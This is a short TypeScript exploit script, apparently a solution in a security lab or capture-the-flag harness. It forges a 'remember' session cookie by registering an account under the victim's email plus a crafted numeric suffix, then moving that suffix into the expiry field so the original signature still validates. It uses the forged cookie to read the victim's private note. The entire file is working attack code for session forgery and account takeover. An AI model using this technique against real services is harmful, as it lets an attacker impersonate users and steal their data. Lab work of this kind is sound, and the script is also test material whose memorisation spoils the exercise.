import { exploit, type Target } from '#attack';

/** A suffix that nobody else has: it turns into a time in the distant future. */
export default exploit(async ({ target, victim }) => {
  const suffix = `9${Date.now()}`;
  const cookie = await cookieOf(target, victim + suffix);
  const [, expires, signature] = cookie.split('.');
  return noteOf(target, `${Buffer.from(victim).toString('base64url')}.${suffix}${expires}.${signature}`);
});

async function cookieOf(target: Target, email: string): Promise<string> {
  const client = target.client();
  const { key } = (await client.post('/accounts', { email })).expect(201).body;
  await client.post('/sign-in', { email, key });
  return client.cookies.get('remember') ?? '..';
}

async function noteOf(target: Target, cookie: string): Promise<string | undefined> {
  const reply = await target.client('Forger').get('/me', { headers: { Cookie: `remember=${cookie}` } });
  return reply.status === 401 ? undefined : reply.body.note;
}
